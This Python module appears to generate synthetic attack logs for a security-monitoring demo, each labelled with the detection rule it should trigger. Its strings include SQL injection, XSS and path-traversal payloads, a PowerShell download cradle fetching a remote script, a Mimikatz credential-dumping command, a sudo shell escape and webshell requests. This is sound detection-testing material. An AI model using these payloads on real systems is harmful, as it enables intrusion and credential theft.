"""Attack scenarios of the demo province, each record labelled with the rules it must trigger.

Stage: none (test and demo data). Called by :mod:`soc_demo.generator`, mixed with
:mod:`soc_demo.background`. A scenario starts at a fixed fraction of the generated period; bursts
feeding a correlation are dense (well inside the rule's timespan) so the records completing each
threshold are unambiguous. Attacker addresses never occur in the background.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

from soc_demo import winevents as win
from soc_demo.events import APACHE, AUTH, NGINX, WINDOWS, Entry, Rule
from soc_demo.formats import Request, access_line, auth_line

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)
SQLMAP = "sqlmap/1.8.11#stable (https://sqlmap.org)"
NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})"

Scenario = Callable[[random.Random, datetime], list[Entry]]


def _web(
    t: datetime,
    where: tuple[str, str, str],
    req: tuple[str, str, int],
    agent: str,
    rules: tuple[str, ...],
    *,
    scenario: str,
    counts: tuple[tuple[str, str], ...] = (),
) -> Entry:
    """An access-log record: ``where`` is (file, vhost, client address), ``req`` (method, target, status)."""
    file, vhost, ip = where
    method, target, status = req
    port = 443 if file == APACHE else None
    request = Request(method, target, status, 512 if status < 400 else 162, "-", agent)
    return Entry(t, file, access_line(t, vhost, ip, request, port=port), rules=rules, counts=counts, scenario=scenario)


def ssh_bruteforce(rng: random.Random, t: datetime) -> list[Entry]:
    """Password guessing for root against the public service portal's server (23 failures)."""
    ip, name, out = "45.155.205.233", "ssh_bruteforce", []
    for i in range(23):
        port = rng.randrange(30000, 60000)
        out.append(
            Entry(
                t,
                AUTH,
                auth_line(t, "web-dvc-01", "sshd", 41000 + i, f"Failed password for root from {ip} port {port} ssh2"),
                counts=((Rule.SSH_BRUTE_FORCE, ip),),
                scenario=name,
            )
        )
        if i % 3 == 2:
            msg = f"Connection closed by authenticating user root {ip} port {port} [preauth]"
            out.append(Entry(t, AUTH, auth_line(t, "web-dvc-01", "sshd", 41000 + i, msg), scenario=name))
        t += timedelta(seconds=rng.randrange(4, 8))
    return out


def ssh_enumeration(rng: random.Random, t: datetime) -> list[Entry]:
    """Dictionary of common account names against the one-stop server: invalid users, each with a
    failed password too (so the brute-force correlation completes as well)."""
    ip, name, out = "193.32.162.77", "ssh_user_enumeration", []
    for i, user in enumerate(
        (
            "admin",
            "test",
            "oracle",
            "postgres",
            "ubuntu",
            "guest",
            "ftpuser",
            "support",
            "git",
            "deploy",
            "hadoop",
            "motcua",
            "thanhhoa",
        )
    ):
        port, pid = rng.randrange(30000, 60000), 52000 + i

        def line(msg: str, pid: int = pid, t: datetime = t) -> str:
            return auth_line(t, "app-motcua-01", "sshd", pid, msg)

        out.append(
            Entry(
                t,
                AUTH,
                line(f"Invalid user {user} from {ip} port {port}"),
                counts=((Rule.SSH_INVALID_USER_ENUM, ip),),
                scenario=name,
            )
        )
        out.append(
            Entry(
                t,
                AUTH,
                line(f"Failed password for invalid user {user} from {ip} port {port} ssh2"),
                counts=((Rule.SSH_BRUTE_FORCE, ip),),
                scenario=name,
            )
        )
        out.append(
            Entry(t, AUTH, line(f"Connection closed by invalid user {user} {ip} port {port} [preauth]"), scenario=name)
        )
        t += timedelta(seconds=rng.randrange(5, 15))
    return out


def ssh_root_compromise(rng: random.Random, t: datetime) -> list[Entry]:
    """Guessing root on the district WordPress server, success from abroad, a backdoor account."""
    ip, host, name, out = "185.220.101.45", "web-hhh-01", "ssh_root_compromise", []
    for i in range(11):
        msg = f"Failed password for root from {ip} port {rng.randrange(30000, 60000)} ssh2"
        out.append(
            Entry(
                t, AUTH, auth_line(t, host, "sshd", 61000 + i, msg), counts=((Rule.SSH_BRUTE_FORCE, ip),), scenario=name
            )
        )
        t += timedelta(seconds=rng.randrange(3, 9))
    out.append(
        Entry(
            t,
            AUTH,
            auth_line(t, host, "sshd", 61020, f"Accepted password for root from {ip} port 51515 ssh2"),
            rules=(Rule.SSH_ROOT_EXTERNAL,),
            scenario=name,
        )
    )
    out.append(
        Entry(
            t,
            AUTH,
            auth_line(t, host, "sshd", 61020, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"),
            scenario=name,
        )
    )
    t += timedelta(seconds=95)
    new_user = "new user: name=sysbackup, UID=1005, GID=1005, home=/home/sysbackup, shell=/bin/bash, from=/dev/pts/0"
    out.append(
        Entry(t, AUTH, auth_line(t, host, "useradd", 61102, new_user), rules=(Rule.LINUX_NEW_USER,), scenario=name)
    )
    t += timedelta(seconds=1)
    out.append(Entry(t, AUTH, auth_line(t, host, "usermod", 61110, "add 'sysbackup' to group 'sudo'"), scenario=name))
    return out


def sqlmap(rng: random.Random, t: datetime) -> list[Entry]:
    """sqlmap against the case-lookup form of the public service portal."""
    ip, name, out = "45.133.1.27", "web_sqlmap", []
    base = "/tra-cuu-ho-so?ma_ho_so="
    payloads = (
        ("1", False),
        ("1%27%20AND%204123%3D4123--%20", False),
        ("1%20AND%20SLEEP%285%29", True),
        ("1%27%20AND%20SLEEP%285%29--%20", True),
        ("1%20UNION%20ALL%20SELECT%20NULL--%20", True),
        ("1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20", True),
        ("1%27%20OR%201%3D1--%20", True),
        ("1%27%20AND%20EXTRACTVALUE%285213%2CCONCAT%280x5c%2C0x7171%29%29--%20", True),
        ("1%20AND%20%28SELECT%20COUNT%28%2A%29%20FROM%20INFORMATION_SCHEMA.TABLES%29%3E0", True),
        ("1%29%20AND%208817%3D8817%20AND%20%289501%3D9501", False),
    )
    for payload, sqli in payloads:
        rules = (Rule.SCANNER_UA, Rule.SQL_INJECTION) if sqli else (Rule.SCANNER_UA,)
        out.append(
            _web(
                t, (NGINX, "dichvucong.thanhhoa.gov.vn", ip), ("GET", base + payload, 200), SQLMAP, rules, scenario=name
            )
        )
        t += timedelta(seconds=rng.randrange(1, 3))
    return out


def manual_web_attacks(rng: random.Random, t: datetime) -> list[Entry]:
    """A human with a browser: SQL injection on news ids, XSS in the search box, traversal on the
    one-stop system's document download."""
    ip, name, out = "103.57.220.14", "web_manual_injection", []
    steps = (
        ("portal.thanhhoa.gov.vn", "/tin-tuc/chi-tiet?id=1%27%20or%201%3D1--", 500, Rule.SQL_INJECTION),
        (
            "portal.thanhhoa.gov.vn",
            "/tin-tuc/chi-tiet?id=-1%20union%20select%201,username,password%20from%20nguoi_dung--",
            500,
            Rule.SQL_INJECTION,
        ),
        ("portal.thanhhoa.gov.vn", "/tin-tuc/chi-tiet?id=1;waitfor%20delay%20%270:0:5%27--", 500, Rule.SQL_INJECTION),
        ("portal.thanhhoa.gov.vn", "/tin-tuc/chi-tiet?id=-1/**/UNION/**/SELECT/**/1,2,3--", 500, Rule.SQL_INJECTION),
        ("portal.thanhhoa.gov.vn", "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", 200, Rule.XSS),
        ("portal.thanhhoa.gov.vn", "/tim-kiem?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", 200, Rule.XSS),
        ("portal.thanhhoa.gov.vn", "/tim-kiem?q=%3Csvg%2Fonload%3Dalert(1)%3E", 200, Rule.XSS),
        ("motcua.thanhhoa.gov.vn", "/motcua/tai-lieu/tai-ve?file=../../../../etc/passwd", 404, Rule.PATH_TRAVERSAL),
        (
            "motcua.thanhhoa.gov.vn",
            "/motcua/tai-lieu/tai-ve?file=..%2f..%2f..%2f..%2fetc%2fshadow",
            404,
            Rule.PATH_TRAVERSAL,
        ),
        (
            "motcua.thanhhoa.gov.vn",
            "/motcua/tai-lieu/tai-ve?file=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
            404,
            Rule.PATH_TRAVERSAL,
        ),
    )
    for vhost, target, status, rule in steps:
        out.append(_web(t, (NGINX, vhost, ip), ("GET", target, status), CHROME, (rule,), scenario=name))
        t += timedelta(seconds=rng.randrange(8, 40))
    return out


def scanners(rng: random.Random, t: datetime) -> list[Entry]:
    """Internet-wide scanners and fuzzers hitting the portal, plus a credential hunter with curl."""
    name, out = "web_scanners", []
    s, e = Rule.SCANNER_UA, Rule.SENSITIVE_FILE
    hits = (
        ("45.83.64.10", "gobuster/3.6", "/admin", 404, (s,)),
        ("45.83.64.10", "gobuster/3.6", "/backup", 404, (s,)),
        ("45.83.64.10", "gobuster/3.6", "/.git/config", 404, (s, e)),
        ("45.83.64.10", "gobuster/3.6", "/uploads", 301, (s,)),
        (
            "194.26.29.120",
            CHROME + " Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "/.env",
            404,
            (s, e),
        ),
        (
            "194.26.29.120",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "/wp-config.php.bak",
            404,
            (s, e),
        ),
        (
            "194.26.29.120",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "/server-status",
            403,
            (s,),
        ),
        (
            "71.6.199.23",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "/",
            200,
            (s,),
        ),
        (
            "71.6.199.23",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "/nmaplowercheck1732079531",
            404,
            (s,),
        ),
        ("162.142.125.9", "Mozilla/5.0 zgrab/0.x", "/", 200, (s,)),
        ("209.141.33.5", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "/", 200, (s,)),
        ("5.188.210.101", "curl/8.4.0", "/.env", 404, (e,)),
        ("5.188.210.101", "curl/8.4.0", "/.git/HEAD", 404, (e,)),
        ("5.188.210.101", "curl/8.4.0", "/backup.sql", 404, (e,)),
        ("5.188.210.101", "curl/8.4.0", "/db.sql", 404, (e,)),
        ("5.188.210.101", "curl/8.4.0", "/.DS_Store", 404, (e,)),
        ("5.188.210.101", "curl/8.4.0", "/index.php", 200, ()),
    )
    for ip, agent, target, status, rules in hits:
        out.append(_web(t, (NGINX, "portal.thanhhoa.gov.vn", ip), ("GET", target, status), agent, rules, scenario=name))
        t += timedelta(seconds=rng.randrange(1, 20))
    return out


def nikto(rng: random.Random, t: datetime) -> list[Entry]:
    """Nikto against the city portal (Apache)."""
    ip, name, out = "80.82.77.139", "web_nikto", []
    s = Rule.SCANNER_UA
    probes = (
        ("/", 200, (s,)),
        ("/phpmyadmin/", 404, (s,)),
        ("/.htpasswd", 403, (s, Rule.SENSITIVE_FILE)),
        ("/web.config.bak", 404, (s, Rule.SENSITIVE_FILE)),
        ("/cgi-bin/test-cgi", 404, (s,)),
        ("/index.php?page=../../../../../../etc/passwd", 200, (s, Rule.PATH_TRAVERSAL)),
        ("/?s=%3Cscript%3Ealert(%27nikto%27)%3C%2Fscript%3E", 200, (s, Rule.XSS)),
        ("/shell.php", 404, (s, Rule.WEBSHELL)),
        ("/icons/README", 404, (s,)),
    )
    for i, (target, status, rules) in enumerate(probes):
        out.append(
            _web(
                t,
                (APACHE, "tpthanhhoa.thanhhoa.gov.vn", ip),
                ("GET", target, status),
                NIKTO.format(i + 1),
                rules,
                scenario=name,
            )
        )
        t += timedelta(seconds=rng.randrange(0, 2))
    return out


def portal_credential_stuffing(rng: random.Random, t: datetime) -> list[Entry]:
    """32 failed logins on the public service portal within ~4 minutes from one address."""
    ip, name, out = "37.120.247.19", "web_login_bruteforce_dvc", []
    for _ in range(32):
        out.append(
            _web(
                t,
                (NGINX, "dichvucong.thanhhoa.gov.vn", ip),
                ("POST", "/dang-nhap", 200),
                CHROME,
                (),
                scenario=name,
                counts=((Rule.PORTAL_LOGIN_BRUTE_FORCE, ip),),
            )
        )
        t += timedelta(seconds=rng.randrange(4, 8))
    return out


def wordpress_takeover(rng: random.Random, t: datetime) -> list[Entry]:
    """WPScan, wp-login brute force, plugin upload, webshell, sudo attempts, defacement on the
    Hoằng Hóa district portal (Apache) and its server (auth.log)."""
    ip, vhost, name, out = "91.240.118.172", "hoanghoa.thanhhoa.gov.vn", "wordpress_takeover", []
    wpscan = "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"
    for target in ("/", "/wp-json/wp/v2/users", "/readme.html", "/wp-content/debug.log"):
        out.append(_web(t, (APACHE, vhost, ip), ("GET", target, 200), wpscan, (Rule.SCANNER_UA,), scenario=name))
        t += timedelta(seconds=1)
    t += timedelta(seconds=40)
    for _ in range(17):
        out.append(
            _web(
                t,
                (APACHE, vhost, ip),
                ("POST", "/wp-login.php", 200),
                CHROME,
                (),
                scenario=name,
                counts=((Rule.PORTAL_LOGIN_BRUTE_FORCE, ip),),
            )
        )
        t += timedelta(seconds=rng.randrange(3, 7))
    out.append(_web(t, (APACHE, vhost, ip), ("POST", "/wp-login.php", 302), CHROME, (), scenario=name))
    t += timedelta(seconds=30)
    out.append(
        _web(
            t,
            (APACHE, vhost, ip),
            ("POST", "/wp-admin/update.php?action=upload-plugin", 200),
            CHROME,
            (),
            scenario=name,
        )
    )
    t += timedelta(seconds=20)
    shell = "/wp-content/uploads/2026/11/wso.php"
    out.append(_web(t, (APACHE, vhost, ip), ("GET", shell, 200), CHROME, (Rule.WEBSHELL,), scenario=name))
    t += timedelta(seconds=5)
    out.append(_web(t, (APACHE, vhost, ip), ("POST", shell, 200), CHROME, (Rule.WEBSHELL,), scenario=name))
    t += timedelta(seconds=5)
    out.append(
        _web(
            t,
            (APACHE, vhost, ip),
            ("GET", "/wp-content/uploads/2026/11/thumb-150x150.php?cmd=id", 200),
            CHROME,
            (Rule.WEBSHELL,),
            scenario=name,
        )
    )
    t += timedelta(seconds=10)
    sudo = (
        (
            "www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html/wp-content/uploads/2026/11 ; USER=root ; "
            "COMMAND=/bin/bash"
        ),
        "www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/find /tmp -exec /bin/sh ; -quit",
    )
    for i, msg in enumerate(sudo):
        out.append(
            Entry(
                t,
                AUTH,
                auth_line(t, "web-hhh-01", "sudo", 7700 + i, "   " + msg),
                rules=(Rule.WEB_ACCOUNT_SUDO,),
                scenario=name,
            )
        )
        t += timedelta(seconds=15)
    t += timedelta(seconds=60)
    for method, target, status, rules in (
        ("PUT", "/index.html", 201, (Rule.DEFACEMENT,)),
        ("DELETE", "/wp-content/themes/cong-ttdt/index.php", 405, (Rule.DEFACEMENT,)),
        ("GET", "/hacked%20by%20xShadowTeam.html", 200, (Rule.DEFACEMENT,)),
    ):
        out.append(_web(t, (APACHE, vhost, ip), (method, target, status), CHROME, rules, scenario=name))
        t += timedelta(seconds=7)
    return out


def phishing_workstation(rng: random.Random, t: datetime) -> list[Entry]:
    """Macro document at Sở Tài chính: Word -> hidden encoded PowerShell -> download cradle ->
    renamed Mimikatz."""
    host, user, name = "STC-PC03.thanhhoa.local", "nguyenthilan", "phishing_macro_stc"
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16"
    word = f"{office}\\WINWORD.EXE"
    doc = f'"{word}" /n "C:\\Users\\{user}\\Downloads\\Cong-van-khan-so-1523-STC.docm"'
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    cradle = "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://45.77.41.9/a.ps1')\""
    steps = (
        (word, doc, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "WINWORD.EXE", ()),
        (cmd, f'"{cmd}" /c whoami /all & systeminfo', word, doc, "Cmd.Exe", (Rule.OFFICE_SPAWNS_SHELL,)),
        (
            ps,
            f"powershell.exe -nop -w hidden -enc {enc}",
            word,
            doc,
            "PowerShell.EXE",
            (Rule.OFFICE_SPAWNS_SHELL, Rule.SUSPICIOUS_POWERSHELL),
        ),
        (ps, cradle, ps, f"powershell.exe -nop -w hidden -enc {enc}", "PowerShell.EXE", (Rule.SUSPICIOUS_POWERSHELL,)),
        (
            "C:\\Users\\Public\\svchost.exe",
            'C:\\Users\\Public\\svchost.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
            ps,
            cradle,
            "mimikatz.exe",
            (Rule.MIMIKATZ,),
        ),
    )
    out = []
    for image, cli, parent, parent_cli, original, rules in steps:
        payload = win.process_creation(
            rng,
            t,
            host,
            user=user,
            image=image,
            command_line=cli,
            parent_image=parent,
            parent_command_line=parent_cli,
            original=original,
            cwd=f"C:\\Users\\{user}\\Documents\\",
        )
        out.append(Entry(t, WINDOWS, win=payload, rules=rules, scenario=name))
        t += timedelta(seconds=rng.randrange(5, 40))
    return out


def domain_persistence(rng: random.Random, t: datetime) -> list[Entry]:
    """With stolen admin credentials on DC01: backdoor account, Administrators, task, service,
    then the Security log is cleared."""
    dc, admin, name = "DC01.thanhhoa.local", "longvd", "dc_persistence"
    subject = {
        "SubjectUserSid": win.user_sid(admin),
        "SubjectUserName": admin,
        "SubjectDomainName": win.DOMAIN,
        "SubjectLogonId": "0x5a3c1f",
    }
    new_sid = win.user_sid("hotro.it")
    created = {
        "TargetUserName": "hotro.it",
        "TargetDomainName": win.DOMAIN,
        "TargetSid": new_sid,
        **subject,
        "PrivilegeList": "-",
        "SamAccountName": "hotro.it",
        "DisplayName": "%%1793",
        "UserPrincipalName": "-",
        "HomeDirectory": "%%1793",
        "UserAccountControl": "%%2080 %%2082 %%2084",
        "PrimaryGroupId": "513",
    }
    added = {
        "MemberName": "CN=hotro.it,CN=Users,DC=thanhhoa,DC=local",
        "MemberSid": new_sid,
        "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin",
        "TargetSid": "S-1-5-32-544",
        **subject,
        "PrivilegeList": "-",
    }
    task_xml = (
        '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Actions Context="Author"><Exec>'
        "<Command>C:\\Windows\\Temp\\upd.exe</Command></Exec></Actions></Task>"
    )
    task = {**subject, "TaskName": "\\Microsoft\\Windows\\Maintenance\\CapNhatHeThong", "TaskContent": task_xml}
    steps: tuple[tuple[Callable[[datetime], dict[str, Any]], str], ...] = (
        (lambda ts: win.security(ts, dc, 4720, created, task=13824), Rule.WIN_USER_CREATED),
        (lambda ts: win.security(ts, dc, 4732, added, task=13826), Rule.WIN_ADMIN_ADDED),
        (lambda ts: win.security(ts, dc, 4698, task, task=12804), Rule.SCHEDULED_TASK),
        (
            lambda ts: win.service_installed(
                ts, dc, "WinDefendUpdate", f"%COMSPEC% /b /c powershell -nop -w hidden -enc {'A' * 24}"
            ),
            Rule.SUSPICIOUS_SERVICE,
        ),
        (lambda ts: win.log_cleared(ts, dc, admin), Rule.WIN_LOG_CLEARED),
    )
    out = []
    for i, (build, rule) in enumerate(steps):
        ts = t + timedelta(seconds=30 * i + rng.randrange(0, 10))
        out.append(Entry(ts, WINDOWS, win=build(ts), rules=(rule,), scenario=name))
    return out


def rdp_bruteforce(rng: random.Random, t: datetime) -> list[Entry]:
    """Password spraying over RDP against the Đông Vệ ward server exposed to the Internet."""
    ip, name, out = "45.146.165.37", "rdp_bruteforce_dongve", []
    users = ("administrator", "admin", "ubnd", "dongve", "user", "ketoan")
    for i in range(24):
        payload = win.logon_failure(rng, t, "DONGVE-SRV01.thanhhoa.local", users[i % len(users)], ip, workstation="-")
        out.append(Entry(t, WINDOWS, win=payload, counts=((Rule.WIN_LOGON_BRUTE_FORCE, ip),), scenario=name))
        t += timedelta(milliseconds=rng.randrange(2000, 6000))
    return out


# (fraction of the period at which the scenario starts, scenario)
SCENARIOS: tuple[tuple[float, Scenario], ...] = (
    (0.10, scanners),
    (0.18, ssh_bruteforce),
    (0.25, sqlmap),
    (0.30, ssh_enumeration),
    (0.35, portal_credential_stuffing),
    (0.40, manual_web_attacks),
    (0.45, nikto),
    (0.50, rdp_bruteforce),
    (0.55, wordpress_takeover),
    (0.62, phishing_workstation),
    (0.70, ssh_root_compromise),
    (0.72, domain_persistence),
)
